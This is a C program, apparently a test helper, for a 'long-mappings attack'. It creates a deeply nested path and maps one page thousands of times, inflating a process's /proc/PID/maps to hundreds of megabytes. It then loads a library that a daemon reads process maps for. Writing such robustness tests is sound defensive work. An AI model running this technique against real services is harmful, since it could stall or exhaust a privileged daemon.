/*
 * The unprivileged side of the long-mappings attack: makes its list of mappings
 * (/proc/PID/maps) hundreds of megabytes long, then maps the library LIB (which the daemon
 * reads the list of a process for), creates READY, and runs until killed.
 *
 *   attack_long_maps LIB DIR COUNT READY
 *
 * Under DIR it makes a path of nearly 4 KiB (directories of 250-character names) to a
 * one-page file, and maps that page COUNT times: each mapping is a line of the list naming
 * the whole path (mappings of one page at one offset are never merged).
 */
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    const char *lib = argv[1], *dir = argv[2], *ready = argv[4];
    long count = atol(argv[3]);
    if (chdir(dir) != 0) {
        perror("chdir");
        return 1;
    }
    char name[251];
    memset(name, 'm', 250);
    name[250] = 0;
    size_t length = strlen(dir);
    while (length + 2 * 251 < 3900) {
        if (mkdir(name, 0755) != 0 || chdir(name) != 0) {
            perror("mkdir");
            return 1;
        }
        length += 251;
    }
    int fd = open(name, O_CREAT | O_RDWR, 0644);
    if (fd < 0 || ftruncate(fd, 4096) != 0) {
        perror("page file");
        return 1;
    }
    for (long i = 0; i < count; i++) {
        if (mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED) {
            perror("mmap");
            return 1;
        }
    }
    if (!dlopen(lib, RTLD_NOW)) {
        fprintf(stderr, "%s\n", dlerror());
        return 1;
    }
    close(open(ready, O_CREAT | O_WRONLY, 0644));
    for (;;)
        pause();
}
